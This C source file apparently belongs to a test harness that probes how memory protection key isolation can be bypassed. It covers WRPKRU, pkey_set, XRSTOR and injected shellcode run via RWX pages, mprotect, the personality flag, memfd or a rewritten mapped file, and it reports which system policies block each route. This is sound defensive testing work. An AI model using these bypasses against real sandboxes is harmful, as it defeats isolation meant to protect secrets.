/* SPDX-License-Identifier: BSD-3-Clause */
/*
 * by_register.c: the attacker writes the register himself: no privilege is needed for it.  With an instruction of his
 * own program, with libc's, or with one that he brings along as data and makes executable in one way or another.
 */
#include "attack.h"

#include <cpuid.h>
#include <sys/mman.h>
#include <sys/personality.h>
#include <sys/syscall.h>

#define PKRU_STATE 9u /* of XSAVE */

ATTACK(attack_wrpkru) {
    register_write(0);
    return loot_from(t->page);
}

ATTACK(attack_libc_pkey_set) {
    CHECK(pkey_set((int)t->key, 0) == 0);
    return loot_from(t->page);
}

ATTACK(attack_xrstor) {
    static _Alignas(64) uint8_t area[16384];
    uint32_t low = 1u << PKRU_STATE, high = 0;
    unsigned bytes = 0, offset = 0, c = 0, d = 0;
    CHECK(__get_cpuid_count(0xd, PKRU_STATE, &bytes, &offset, &c, &d) != 0 && offset + bytes <= sizeof area);
    area[512 + 1] = 1u << (PKRU_STATE - 8); /* XSTATE_BV: the register is in the area, where it is 0 */
    __asm__ volatile("xrstor64 %0" : : "m"(area), "a"(low), "d"(high) : "memory");
    note("the register is %08x", register_now());
    return loot_from(t->page);
}

/* ---- instructions brought along ------------------------------------------------------------------------- */

/* xor eax, eax; xor ecx, ecx; xor edx, edx; WRPKRU; ret */
static const uint8_t opener[] = {0x31, 0xc0, 0x31, 0xc9, 0x31, 0xd2, 0x0f, 0x01, 0xef, 0xc3};
static const uint8_t nothing[] = {0xc3};

static void call_code(const void *code) {
    void (*function)(void);
    memcpy(&function, &code, sizeof function);
    function();
}

/* A new page with the opener, and a look what it was good for; how says what else than writable it is from the start,
 * then what it becomes. */
static enum claim run_new_page(const struct target *t, int how, int then) {
    void *code = mmap(NULL, ATTACK_PAGE, how, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    if (code == MAP_FAILED) {
        return errno == EACCES || errno == EPERM ? missing("a policy forbids pages to write and execute")
                                                 : broken("mmap");
    }
    memcpy(code, opener, sizeof opener);
    if (then != how && mprotect(code, ATTACK_PAGE, then) != 0) {
        return errno == EACCES || errno == EPERM ? missing("a policy forbids code that was written")
                                                 : broken("mprotect");
    }
    call_code(code);
    return loot_from(t->page);
}

ATTACK(attack_new_exec_page) {
    return run_new_page(t, PROT_READ | PROT_WRITE | PROT_EXEC, PROT_READ | PROT_WRITE | PROT_EXEC);
}

ATTACK(attack_mprotect_new_exec) {
    return run_new_page(t, PROT_READ | PROT_WRITE, PROT_READ | PROT_EXEC);
}

ATTACK(attack_personality_rie) {
    if (syscall(SYS_personality, READ_IMPLIES_EXEC) < 0) {
        return missing("a sandbox forbids personality");
    }
    return run_new_page(t, PROT_READ | PROT_WRITE, PROT_READ | PROT_WRITE);
}

ATTACK(attack_memfd_exec) {
    int fd = memory_file();
    CHECK(write(fd, opener, sizeof opener) == sizeof opener);
    const void *code = mmap(NULL, ATTACK_PAGE, PROT_READ | PROT_EXEC, MAP_PRIVATE, fd, 0);
    if (code == MAP_FAILED) {
        return number_in("/proc/sys/vm/memfd_noexec", 0) != 0 ? missing("vm.memfd_noexec") : broken("mmap");
    }
    call_code(code);
    return loot_from(t->page);
}

/* Code that is mapped already, and harmless: its file is written to. */
ATTACK(attack_rewrite_mapped_lib) {
    int fd = code_file();
    CHECK(pwrite(fd, nothing, sizeof nothing, 0) == sizeof nothing);
    const void *code = mmap(NULL, ATTACK_PAGE, PROT_READ | PROT_EXEC, MAP_PRIVATE, fd, 0);
    CHECK(code != MAP_FAILED);
    call_code(code);
    CHECK(pwrite(fd, opener, sizeof opener, 0) == sizeof opener);
    call_code(code);
    return loot_from(t->page);
}
